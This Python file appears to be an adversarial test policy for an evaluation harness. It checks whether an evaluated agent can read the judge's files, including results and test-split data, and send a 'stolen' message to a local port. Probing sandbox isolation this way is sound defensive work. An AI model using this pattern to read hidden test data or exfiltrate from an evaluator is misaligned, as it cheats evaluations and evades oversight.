"""Attack: read files of the judge and phone home (paths given as a parameter): the dataset
cache, the store, results/, ../shared, the suites' test-split files; report what it read."""

import os

import numpy as np

from gridshift import Decision, Policy


class Attack(Policy):
    id = "attack-read-files-v1"
    description = "tries to read the judge's files"

    def __init__(self, paths: tuple = (), port: int = 0):
        self.paths = paths
        self.port = port

    def reset(self, info):
        super().reset(info)
        self.seen = {}
        for p in self.paths:
            try:
                if os.path.isdir(p):
                    self.seen[p] = sorted(os.listdir(p))
                else:
                    with open(p, "rb") as f:
                        self.seen[p] = len(f.read())
            except OSError as exc:
                self.seen[p] = f"{type(exc).__name__}"
        if self.port:  # exfiltrate to a server of the judge's machine
            import socket

            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=2) as s:
                    s.sendall(b"stolen")
                self.seen["net"] = "connected"
            except OSError as exc:
                self.seen["net"] = f"{type(exc).__name__}"

    def decide(self, obs):
        return Decision(region=np.asarray(obs.jobs.origin, dtype=np.int64).copy())

    def state(self):
        return {"seen": self.seen}
